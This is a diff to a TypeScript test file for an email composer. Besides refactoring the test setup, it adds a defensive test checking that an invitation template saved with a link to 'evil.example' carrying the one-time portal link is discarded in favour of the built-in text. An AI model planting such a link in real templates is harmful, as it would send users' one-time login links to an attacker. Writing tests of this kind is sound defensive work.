@@ -3,9 +3,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { accountRepository } from '../../lib/accounts/repository.ts';
 import { groupRepository } from '../../lib/groups/repository.ts';
 import { newGroup } from '../../lib/groups/schema.ts';
-import { mailComposer } from '../../lib/mail/compose.ts';
 import { oneTimeLinks, secretOf } from '../../lib/mail/one-time-links.ts';
-import { recipientRepository } from '../../lib/mail/recipient-repository.ts';
 import { mailRepository } from '../../lib/mail/repository.ts';
 import { templateRepository } from '../../lib/mail/templates/repository.ts';
 import { dayIn } from '../../lib/numbers/pattern.ts';
@@ -26,6 +24,7 @@ import { keys } from '../../lib/table/keys.ts';
 import { getItem } from '../../lib/table/query.ts';
 import { committing, transact } from '../../lib/table/transaction.ts';
 import { type ClientWorld, clientWorld, newClient } from '../support/client-world.ts';
+import { composerOf } from '../support/composer.ts';
 import { freshTable } from '../support/table.ts';
 
 let table: Table;
@@ -40,21 +39,7 @@ async function composed(mailId: MailId) {
   const mails = mailRepository(table, systemLog(table).entry);
   const mail = await mails.getMail(principal.companyId, mailId);
   if (!mail) throw new Error('there is no such mail');
-  const templates = templateRepository(table);
-  const compose = mailComposer({
-    recipients: recipientRepository(table),
-    async getText(company, query) {
-      const { subject, body, language } = await templates.getEffectiveText(company, query);
-      return { text: { subject, body }, language };
-    },
-    links: {
-      secretOf: async (id) => secretOf('a secret', id),
-      issue: oneTimeLinks(table).issue,
-    },
-    from: 'no-reply@clientele.example',
-    pages: { portal: 'https://portal.example', staff: 'https://staff.example' },
-  });
-  return compose(mail, source.now());
+  return composerOf(table)(mail, source.now());
 }
 
 /** Creates a client with one invited contact; returns their ids and the mail's. */
@@ -173,6 +158,20 @@ describe('an invitation', () => {
     expect(JSON.stringify(item)).not.toContain('@');
     expect(JSON.stringify(item)).not.toContain(secretOf('a secret', mailId));
   });
+});
+
+it('a text that was saved with its link in another address is replaced by the built-in one', async () => {
+  const { mailId } = await inviteContact({}, { language: 'nl' });
+  const broken = { subject: 'Ours', body: 'Click [here](https://evil.example/?u=$portal.link)' };
+  const place = { groupId: null, key: 'invitation', language: 'nl' } as const;
+  const saved = { ...place, ...broken, updatedAt: world.source.now().toISOString(), version: 1 };
+  await templateRepository(table).put(world.principal.companyId, saved, 0);
+  const composition = await composed(mailId);
+  if ('failure' in composition) throw new Error(composition.failure);
+  const { subject, text, html } = await PostalMime.parse(composition.message.raw);
+  expect(subject).not.toBe('Ours');
+  expect(text).toMatch(/https:\/\/portal\.example\/[\w-]+\/invitation#[\w-]{43}/);
+  expect(`${text}${html}`).not.toContain('evil');
 });
 
 it('a password reset of a user is sent only if it is the newest one and unused', async () => {
